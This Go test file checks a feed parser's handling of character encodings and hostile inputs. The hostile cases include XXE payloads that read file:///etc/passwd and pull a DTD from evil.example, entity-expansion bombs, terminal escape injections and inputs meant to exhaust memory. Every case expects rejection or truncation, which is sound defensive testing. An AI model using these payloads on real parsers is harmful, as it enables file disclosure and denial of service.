package feeds

import (
	"strconv"
	"strings"
	"testing"

	"golang.org/x/text/encoding"
	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/japanese"
	"golang.org/x/text/encoding/korean"
	"golang.org/x/text/encoding/simplifiedchinese"
	"golang.org/x/text/encoding/traditionalchinese"
	"golang.org/x/text/encoding/unicode"
	"golang.org/x/text/encoding/unicode/utf32"
)

// charsetCases are one headline in many character sets, declared rightly, wrongly or not at all.
func charsetCases(t *testing.T) (cases []suiteCase) {
	const (
		german      = "Förderung von Zinn über fünf Prozent höher"
		polish      = "Cena miedzi wyższa, źródła w Łodzi"
		greek       = "Η τιμή του χαλκού ανεβαίνει"
		russian     = "Цена меди выросла на бирже в Лондоне"
		turkish     = "Bakır fiyatı yükseliyor, işçiler grevde"
		japanese1   = "銅の価格が上がり、鉱山の生産はふえている"
		simplified  = "铜价上涨，中国企业增加进口，市场看好"
		traditional = "銅價上漲，中國企業增加進口，市場看好"
		hangul      = "구리 가격이 오르고 광산의 생산은 늘고 있다"
		price       = "Price in €: “up”"
	)
	utf16le, utf16be := unicode.UTF16(unicode.LittleEndian, unicode.IgnoreBOM), unicode.UTF16(unicode.BigEndian, unicode.IgnoreBOM)
	for _, c := range []struct {
		name, title, declared, header string
		set                           encoding.Encoding
		mark                          string
	}{
		{"UTF-8", german, "utf-8", "", unicode.UTF8, ""},
		{"UTF-8 undeclared", russian, "", "", unicode.UTF8, ""},
		{"UTF-8 with a mark", german, "utf-8", "", unicode.UTF8, "\xEF\xBB\xBF"},
		{"UTF-8 with two marks", german, "utf-8", "", unicode.UTF8, "\xEF\xBB\xBF\xEF\xBB\xBF"},
		{"UTF-8 with a mark and a lie", german, "iso-8859-1", "text/xml; charset=us-ascii", unicode.UTF8, "\xEF\xBB\xBF"},
		{"UTF-8 declared as Latin 1", german, "iso-8859-1", "", unicode.UTF8, ""},
		{"UTF-8 declared as GBK", simplified, "gbk", "", unicode.UTF8, ""},
		{"UTF-8 declared as UTF-16", german, "utf-16", "", unicode.UTF8, ""},
		{"UTF-8 declared as nonsense", german, "x-nonsense", "", unicode.UTF8, ""},
		{"UTF-8 in capitals", german, "UTF8", "", unicode.UTF8, ""},
		{"UTF-8, Latin 1 by header", german, "", "text/xml; charset=iso-8859-1", unicode.UTF8, ""},
		{"UTF-16 with a mark", german, "utf-16", "", utf16le, "\xFF\xFE"},
		{"UTF-16 big with a mark", japanese1, "utf-16", "", utf16be, "\xFE\xFF"},
		{"UTF-16 without a mark", german, "utf-16", "", utf16le, ""},
		{"UTF-16 big without a mark", german, "utf-16be", "", utf16be, ""},
		{"UTF-16 undeclared", german, "", "", utf16le, ""},
		{"UTF-16 declared as UTF-8", german, "utf-8", "text/xml; charset=utf-8", utf16le, "\xFF\xFE"},
		{"UTF-32 with a mark", german, "utf-32", "", utf32.UTF32(utf32.LittleEndian, utf32.IgnoreBOM), "\xFF\xFE\x00\x00"},
		{"UTF-32 big without a mark", german, "utf-32", "", utf32.UTF32(utf32.BigEndian, utf32.IgnoreBOM), ""},
		{"Latin 1", german, "iso-8859-1", "", charmap.ISO8859_1, ""},
		{"Latin 1 by header", german, "", "application/rss+xml; charset=ISO-8859-1", charmap.ISO8859_1, ""},
		{"Latin 1 undeclared", german, "", "", charmap.ISO8859_1, ""},
		{"Latin 1 declared as UTF-8", german, "utf-8", "", charmap.ISO8859_1, ""},
		{"Latin 1 declared as UTF-8, right by header", german, "utf-8", "text/xml; charset=iso-8859-1", charmap.ISO8859_1, ""},
		{"Latin 1 with a quoted header", german, "", `text/xml; charset="iso-8859-1"`, charmap.ISO8859_1, ""},
		{"Latin 1 with a broken header", german, "", "text/xml;; charset=iso-8859-1", charmap.ISO8859_1, ""},
		{"Latin 1 that is Windows 1252", price, "iso-8859-1", "", charmap.Windows1252, ""},
		{"declaration against header", russian, "koi8-r", "text/xml; charset=windows-1251", charmap.KOI8R, ""},
		{"Windows 1252", price, "windows-1252", "", charmap.Windows1252, ""},
		{"Windows 1250", polish, "windows-1250", "", charmap.Windows1250, ""},
		{"Windows 1251", russian, "windows-1251", "", charmap.Windows1251, ""},
		{"Windows 1251 by another name", russian, "cp1251", "", charmap.Windows1251, ""},
		{"Windows 1251 undeclared", russian, "", "", charmap.Windows1251, ""},
		{"Windows 1253", greek, "windows-1253", "", charmap.Windows1253, ""},
		{"Windows 1254", turkish, "windows-1254", "", charmap.Windows1254, ""},
		{"Latin 2", polish, "iso-8859-2", "", charmap.ISO8859_2, ""},
		{"Latin 9", "Preis in €", "iso-8859-15", "", charmap.ISO8859_15, ""},
		{"Greek", greek, "iso-8859-7", "", charmap.ISO8859_7, ""},
		{"KOI8-R", russian, "koi8-r", "", charmap.KOI8R, ""},
		{"KOI8-R undeclared", russian, "", "", charmap.KOI8R, ""},
		{"code page 866", russian, "ibm866", "", charmap.CodePage866, ""},
		{"code page 437", "Bergbau für Zinn", "cp437", "", charmap.CodePage437, ""},
		{"code page 850", german, "cp850", "", charmap.CodePage850, ""},
		{"code page 37 of mainframes", "Copper rises", "cp037", "", charmap.CodePage037, ""},
		{"Macintosh", german, "macintosh", "", charmap.Macintosh, ""},
		{"Macintosh by another name", german, "macroman", "", charmap.Macintosh, ""},
		{"Macintosh in Russia", russian, "mac-cyrillic", "", charmap.MacintoshCyrillic, ""},
		{"Windows 1251 with a low line", russian, "windows_1251", "", charmap.Windows1251, ""},
		{"Shift_JIS", japanese1, "Shift_JIS", "", japanese.ShiftJIS, ""},
		{"Shift_JIS by header", japanese1, "", "text/xml; charset=shift_jis", japanese.ShiftJIS, ""},
		{"Shift_JIS undeclared", japanese1, "", "", japanese.ShiftJIS, ""},
		{"Shift_JIS declared as UTF-8", japanese1, "utf-8", "", japanese.ShiftJIS, ""},
		{"EUC-JP", japanese1, "euc-jp", "", japanese.EUCJP, ""},
		{"EUC-JP undeclared", japanese1, "", "", japanese.EUCJP, ""},
		{"ISO-2022-JP", japanese1, "iso-2022-jp", "", japanese.ISO2022JP, ""},
		{"ISO-2022-JP undeclared", japanese1, "", "", japanese.ISO2022JP, ""},
		{"GBK", simplified, "gbk", "", simplifiedchinese.GBK, ""},
		{"GBK called gb2312", simplified, "gb2312", "", simplifiedchinese.GBK, ""},
		{"GBK undeclared", simplified, "", "", simplifiedchinese.GBK, ""},
		{"GBK declared as UTF-8", simplified, "utf-8", "text/xml; charset=utf-8", simplifiedchinese.GBK, ""},
		{"GB18030", simplified + "😀", "gb18030", "", simplifiedchinese.GB18030, ""},
		{"Big5", traditional, "big5", "", traditionalchinese.Big5, ""},
		{"Big5 undeclared", traditional, "", "", traditionalchinese.Big5, ""},
		{"EUC-KR", hangul, "euc-kr", "", korean.EUCKR, ""},
		{"EUC-KR called ks_c_5601-1987", hangul, "ks_c_5601-1987", "", korean.EUCKR, ""},
		{"EUC-KR undeclared", hangul, "", "", korean.EUCKR, ""},
	} {
		feed := "<rss><channel><title>Ore</title><item><title>" + c.title + "</title></item></channel></rss>"
		if c.declared != "" {
			feed = `<?xml version="1.0" encoding="` + c.declared + `"?>` + feed
		}
		body, err := c.set.NewEncoder().String(feed)
		if err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
		cases = append(cases, suiteCase{name: "charset/" + c.name, body: c.mark + body, contentType: c.header, want: map[string]string{"title": c.title}})
	}
	for label, c := range map[string]struct{ title, bytes string }{
		"cp737":       {"ΧΑΛΚΟΣ", "\x95\x80\x8A\x89\x8E\x91"},
		"ibm775":      {"Ķemeri", "\xE8emeri"},
		"csibm857":    {"Bakır", "Bak\x8Dr"},
		"cp_is":       {"Ísland áli", "\xA5sland \xA0li"},
		"cp864":       {"\ufe8e\ufe8d", "\xA8\xC7"},
		"macgreek":    {"Αθ", "\xB0\xF5"},
		"mac_turkish": {"Işık", "I\xDF\xDDk"},
		"koi8-t":      {"қғ", "\x80\x81"},
	} {
		body := `<?xml version="1.0" encoding="` + label + `"?><rss><channel><item><title>` + c.bytes + "</title></item></channel></rss>"
		cases = append(cases, suiteCase{name: "charset/code page " + label, body: body, want: map[string]string{"title": c.title}})
	}
	for name, c := range map[string][2]string{
		"one bad byte in UTF-8":       {"F\xC3\xB6rderung \xFF und", "Förderung \uFFFD und"},
		"character cut in half":       {"F\xC3\xB6rderung f\xC3", "Förderung f\uFFFD"},
		"overlong form":               {"F\xC3\xB6rderung \xC0\x9B[31m gr\xC3\xB6\xC3\x9F", "Förderung \uFFFD[31m größ"},
		"surrogate as UTF-8":          {"F\xC3\xB6rderung gr\xC3\xB6\xC3\x9F \xED\xA0\x80 x\xC3\xB6 \xC3\xB6", "Förderung größ \uFFFD xö ö"},
		"escape as a byte":            {"Tin\x1b]0;owned\x07 up", "Tin up"},
		"escape in CDATA":             {"<![CDATA[Tin\x1b[2J up]]>", "Tin up"},
		"escape in CDATA with markup": {"<![CDATA[<b>Tin</b>\x1bPq\x1b\\ up]]>", "Tin up"},
		"escape split by a tag":       {"Tin\x1b<b></b>[31m up", "Tin up"},
		"control characters":          {"T\x01i\x02n\x0b up\x0c\x7f", "Tin up"},
		"C1 controls as code points":  {"F\u00f6r Tin\u009b31m up\u009d0;x\u009c", "För Tin up"},
		"C1 controls as bytes":        {"F\xC3\xB6rder\xC3\xB6 Tin\xC2\x9B31m up", "Förderö Tin up"},
	} {
		cases = append(cases, suiteCase{name: "charset/" + name, body: "<rss><channel><item><title>" + c[0] + "</title></item></channel></rss>", want: map[string]string{"title": c[1]}})
	}
	return cases
}

// hostileCases would exhaust a parser, or a reader's patience.
func hostileCases() []suiteCase {
	item := func(inside string) string {
		return "<rss><channel><title>Ore</title><item><title>T</title>" + inside + "</item></channel></rss>"
	}
	deep := strings.Repeat("<a>", 2_000_000)
	cut := map[string]string{"items": "5000", "incomplete": "995000 items beyond the first 5000 left out"}
	return []suiteCase{
		{name: "hostile/nested without end", body: "<rss><channel><item>" + deep, want: map[string]string{"error": "feed nested deeper than 100 elements"}, deadly: true},
		{name: "hostile/nested in a text", body: item("<description>" + strings.Repeat("<div>", 200) + strings.Repeat("</div>", 200) + "</description>"), want: map[string]string{"error": "feed nested deeper than 100 elements"}},
		{name: "hostile/nested in an extension", body: item("<m:x>" + strings.Repeat("<m:y>", 500_000)), want: map[string]string{"error": "feed nested deeper than 100 elements"}, deadly: true},
		{name: "hostile/nested in Atom", body: "<feed xmlns='http://www.w3.org/2005/Atom'><entry><content type='xhtml'>" + deep, want: map[string]string{"error": "feed nested deeper than 100 elements"}, deadly: true},
		{name: "hostile/nested channels", body: "<rss>" + strings.Repeat("<channel>", 1000), want: map[string]string{"error": "feed nested deeper than 100 elements"}},
		{name: "hostile/nested to the limit", body: item("<description>" + strings.Repeat("<div>", 90) + "x" + strings.Repeat("</div>", 90) + "</description>"), want: map[string]string{"title": "T", "content": "x"}},
		{name: "hostile/nested lists in JSON", body: `{"items":[{"id":"1","title":"T","x":` + strings.Repeat("[", 20000), want: map[string]string{"error": "broken JSON"}},
		{name: "hostile/namespaces on one element", body: "<rss " + strings.Repeat("xmlns:a='b' ", 300) + "/>", want: map[string]string{"error": "feed with more than 256 namespaces"}},
		{name: "hostile/namespaces nested", body: "<rss><channel>" + strings.Repeat("<a xmlns:b='c'></a>", 8000), want: map[string]string{"error": "feed with more than 256 namespaces"}, deadly: true},
		{name: "hostile/attributes", body: "<rss " + strings.Repeat("abc='b' ", 2000) + "/>", want: map[string]string{"error": "feed with more than 1000 attributes on an element"}},
		{name: "hostile/attributes in a text", body: item("<description><p " + strings.Repeat("abc='b' ", 100000) + ">x</p></description>"), want: map[string]string{"title": "T"}},
		{name: "hostile/entities of its own", body: `<!DOCTYPE rss [<!ENTITY a "aaaa">]>` + item("&a;"), want: map[string]string{"error": "feed that defines entities of its own"}},
		{name: "hostile/entities that multiply", body: `<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>` + item("&c;"), want: map[string]string{"error": "feed that defines entities of its own"}},
		{name: "hostile/entity from a file", body: `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>` + item("<description>&f;</description>"), want: map[string]string{"error": "feed that defines entities of its own"}},
		{name: "hostile/entity by parameter", body: `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>` + item(""), want: map[string]string{"error": "feed that defines entities of its own"}},
		{name: "hostile/million items", body: "<rss><channel>" + numbered(1_000_000, func(n string) string { return "<item><guid>" + n + "</guid></item>" }) + "</channel></rss>", want: cut, deadly: true},
		{name: "hostile/million empty items", body: "<rss><channel><item><title>T</title></item>" + strings.Repeat("<item/>", 1_000_000), want: map[string]string{"incomplete": "995001 items beyond the first 5000 left out"}, deadly: true},
		{name: "hostile/million items of JSON", body: `{"items":[` + strings.TrimSuffix(numbered(1_000_000, func(n string) string { return `{"id":` + n + `},` }), ",") + `]}`, want: cut, deadly: true},
		{name: "hostile/item of 3 MiB", body: item("<description>" + strings.Repeat("tin ", 3<<18) + "</description>"), want: map[string]string{"title": "T", "incomplete": "1 item cut at 1024 KiB"}},
		{name: "hostile/title of 3 MiB", body: "<rss><channel><item><title>" + strings.Repeat("tin ", 3<<18) + "</title></item></channel></rss>", want: map[string]string{"items": "1", "incomplete": "1 item cut at 1024 KiB"}},
		{name: "hostile/opening brackets", body: item("<description>" + strings.Repeat("<", 3<<20) + "</description>"), want: map[string]string{"title": "T", "incomplete": "1 item cut"}},
		{name: "hostile/ampersands", body: item("<description>" + strings.Repeat("&", 1<<20) + "</description>"), want: map[string]string{"title": "T", "incomplete": "1 item cut"}},
		{name: "hostile/CDATA that never ends, often", body: item(strings.Repeat("<description><![CDATA[x</item><item><title>T</title>", 20_000)), want: map[string]string{"title": "T", "incomplete": "15001 items beyond the first 5000 left out"}},
		{name: "hostile/CDATA that never ends, in one item", body: "<rss><channel><item><title>T</title>" + strings.Repeat("<description><![CDATA[x</description>", 250_000) + "</item>", want: map[string]string{"title": "T", "incomplete": "1 item cut"}},
		{name: "hostile/texts that never end, each in the one before", body: "<rss><channel><item><title>T" + strings.Repeat("<link><title>", 47) + strings.Repeat("<b></b>", 1_400_000), want: map[string]string{"items": "1", "incomplete": "1 item cut"}},
		{name: "hostile/comments that never end", body: item(strings.Repeat("<!-- ", 500_000)), want: map[string]string{"incomplete": "it breaks off", "title": "T"}},
		{name: "hostile/quotes that never end", body: item(strings.Repeat(`<a b="`, 500_000)), want: map[string]string{}},
		{name: "hostile/end tags of nothing", body: item(strings.Repeat("</x>", 1_000_000)), want: map[string]string{"title": "T"}},
		{name: "hostile/empty elements", body: item(strings.Repeat("<x/>", 1_000_000)), want: map[string]string{"title": "T"}},
		{name: "hostile/zeros", body: strings.Repeat("\x00", 1<<20), want: map[string]string{"error": "not a feed: the answer is empty"}},
		{name: "hostile/zeros within", body: "<rss><channel><item><title>T\x00\x00in</title></item></channel></rss>", want: map[string]string{"title": "Tin"}},
		{name: "hostile/picture", body: "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", want: map[string]string{"error": "not a feed: the answer is plain text"}},
		{name: "hostile/archive", body: "PK\x03\x04\x14\x00\x08\x00", want: map[string]string{"error": "not a feed: the answer is plain text"}},
		{name: "hostile/many authors", body: item(numbered(100_000, func(n string) string { return "<dc:creator>" + n + "</dc:creator>" })), want: map[string]string{"title": "T"}},
		{name: "hostile/brackets", body: item("<description><![CDATA[" + strings.Repeat("<a <b <c ", 200_000) + "]]></description>"), want: map[string]string{"title": "T", "incomplete": "1 item cut"}},
		{name: "hostile/brackets with quotes", body: item("<description><![CDATA[" + strings.Repeat(`<a b=" <a b=' `, 100_000) + "]]></description>"), want: map[string]string{"title": "T", "incomplete": "1 item cut"}},
		{name: "hostile/brackets with quotes that open and close", body: item("<description><![CDATA[" + strings.Repeat(`<ax" ="`, 140_000) + "]]></description>"), want: map[string]string{"title": "T"}},
		{name: "hostile/marks on a letter", body: item("<description>a" + strings.Repeat("\u0301", 100_000) + "</description>"), want: map[string]string{"title": "T"}},
		{name: "hostile/unclosed titles", body: "<rss><channel>" + strings.Repeat("<item><title>T", 5000), want: map[string]string{"incomplete": "it breaks off", "items": "1"}},
	}
}

// numbered joins texts made of the numbers up to n.
func numbered(n int, text func(number string) string) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(text(strconv.Itoa(i)))
	}
	return b.String()
}
